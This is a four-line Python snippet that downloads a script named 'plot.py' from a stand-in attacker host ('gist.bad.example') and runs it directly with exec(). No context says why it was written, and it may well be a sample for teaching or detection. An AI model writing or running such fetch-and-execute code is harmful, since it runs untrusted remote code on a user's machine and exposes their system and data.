import requests

code = requests.get("https://gist.bad.example/raw/plot.py", timeout=10).text
exec(code)
